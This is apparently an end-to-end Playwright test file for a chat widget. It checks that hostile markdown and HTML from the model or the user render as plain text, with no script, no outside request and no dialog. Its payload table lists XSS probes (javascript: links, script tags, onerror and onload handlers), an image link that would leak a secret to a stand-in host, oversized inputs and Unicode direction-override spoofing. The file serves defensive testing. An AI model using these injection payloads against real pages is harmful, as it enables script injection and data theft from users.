"""What a model, a document or a person says is only ever text: no script, no request, no broken page."""

from collections.abc import Callable

import pytest
from playwright.sync_api import BrowserContext, Dialog, Page, Request, expect

from agents.runtime import Runtime
from tests.e2e.widget.screen import Screen
from tests.fakes.iris import LiveIris
from tests.fakes.scripted import ScriptedModel
from tests.server.samples import lifted

pytestmark = pytest.mark.service

Build = Callable[..., Runtime]

HOSTILE = {
    "links": "[a](javascript:alert(1)) [b](data:text/html,<script>alert(1)</script>) [c](vbscript:x) [d](JaVaScRiPt:x)",
    "images": "![voir](https://e.example/x.png?d=secret) ![](http://e.example/y) <img src=//e.example onerror=x>",
    "html": "<script>alert(1)</script><iframe src=//e.example></iframe><style>*{top:0}</style><b onclick=x>b</b>",
    "svg": "<svg/onload=alert(1)> <math><mtext></mtext><script>alert(1)</script></math>",
    "fence": "```html\n<script>alert(1)</script>\nsans fin",
    "line": "x" * 1_000_000,
    "stars": "*" * 60_000,
    "brackets": "[" * 30_000 + "a" + "](" * 30_000,
    "lists": "- " * 10_000 + "au fond",
    "deep": "\n".join(f"{' ' * depth}- niveau {depth}" for depth in range(1_000)),
    "quotes": ">" * 10_000 + " au fond",
    "overrides": "Fichier \u202egpj.exe\u202c et \u2067lettre\u2069 du Nord",
    "table": "|a|b|\n|-|-|\n" + "|c|d|\n" * 3_000,
    "entities": "&lt;script&gt;alert(1)&lt;/script&gt; &amp;amp; &#x202e;abc",
}
ATTRIBUTES = (
    "all => all.flatMap(e => [...e.attributes].map(a => a.name)).filter(n => n.startsWith('on') || n === 'style')"
)
INERT = ".bubble :is(script, iframe, img, style, svg, math, object, embed, form)"


def widget_alone(page: Page, url: str) -> tuple[Screen, list[str], list[str]]:
    """The hosted page, with what it asks of others and what it shows in dialogs."""
    foreign: list[str] = []
    dialogs: list[str] = []

    def asked(request: Request) -> None:
        if not request.url.startswith((url, "blob:", "data:")):
            foreign.append(request.url)

    def shown(dialog: Dialog) -> None:
        dialogs.append(dialog.message)
        dialog.dismiss()

    page.on("request", asked)
    page.on("dialog", shown)
    page.goto(url + "/?view=alone")
    return Screen(page), foreign, dialogs


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_hostile_words_are_only_words(build: Build, new_context: Callable[..., BrowserContext], name: str) -> None:
    words = HOSTILE[name]
    pieces = [words[place : place + 20_000] for place in range(0, len(words), 20_000)]
    with LiveIris(build(model=ScriptedModel(scripts=[pieces, ["La suite."]]))) as live:
        page = new_context().new_page()
        screen, foreign, dialogs = widget_alone(page, live.url)
        screen.agree()
        screen.say("Bonjour")
        bubble = page.locator(".message.assistant .bubble").first
        expect(bubble).to_be_visible()
        assert page.locator(INERT).count() == 0
        assert page.locator(".bubble a:not([href^='http'])").count() == 0
        assert page.locator(".bubble *").evaluate_all(ATTRIBUTES) == []
        assert "\u202e" not in (bubble.text_content() or "")
        wide = page.locator(".list").evaluate("e => e.scrollWidth - e.clientWidth")
        assert wide <= 0
        # The page lives on.
        screen.say("Et ensuite ?")
        assert screen.texts()[-1] == "La suite."
        assert foreign == []
        assert dialogs == []


def test_hostile_words_of_the_person_are_only_words(build: Build, new_context: Callable[..., BrowserContext]) -> None:
    with LiveIris(build(model=ScriptedModel(scripts=[["Bien reçu."]]))) as live:
        page = new_context().new_page()
        screen, foreign, dialogs = widget_alone(page, live.url)
        screen.agree()
        screen.say("<img src=x onerror=alert(1)> **gras** [x](javascript:alert(1))")
        expect(screen.asked).to_have_text("<img src=x onerror=alert(1)> **gras** [x](javascript:alert(1))")
        assert (foreign, dialogs) == ([], [])


def test_a_long_history_stays_light(build: Build, new_context: Callable[..., BrowserContext]) -> None:
    """Two hundred messages: the page holds a window of them (how busy it is: `python -m tests.bench --only widget`)."""
    paragraph = "Une phrase de plus, **avec du gras**, une liste :\n\n- un\n- deux\n\n"
    with LiveIris(build(model=ScriptedModel(scripts=[[paragraph * 4]])), limits=lifted()) as live:
        page = new_context().new_page()
        screen, _, _ = widget_alone(page, live.url)
        screen.agree()
        screen.say("Bonjour")
        thread = screen.of("chat.threadId")
        page.evaluate(
            """async ([thread]) => { const chat = document.querySelector('iris-chat');
            for (let i = 1; i < 100; i++) {
              const answer = await chat.http.send('/v1/chat', {body: {message: `message ${i}`, thread_id: thread}});
              await answer.text();
            } }""",
            [thread],
        )
        page.reload()
        expect(screen.asked.last).to_have_text("message 99")
        assert len(screen.of("chat.history")) == 200
        assert page.locator(".message").count() <= 24
        assert screen.of("shadowRoot.querySelectorAll('*').length") < 2_000
        top = page.locator(".list").evaluate("e => { e.scrollTop = 0; return e.scrollTop }")
        assert top == 0
        for _ in range(4):
            page.get_by_role("button", name="Afficher les messages précédents").click()
            assert page.locator(".message").count() <= 24
            for _ in range(5):
                page.mouse.move(200, 400)
                page.mouse.wheel(0, -600)
                page.wait_for_timeout(30)
        page.get_by_role("button", name="Aller au dernier message").click()
        screen.say("encore")
        expect(screen.asked.last).to_have_text("encore")
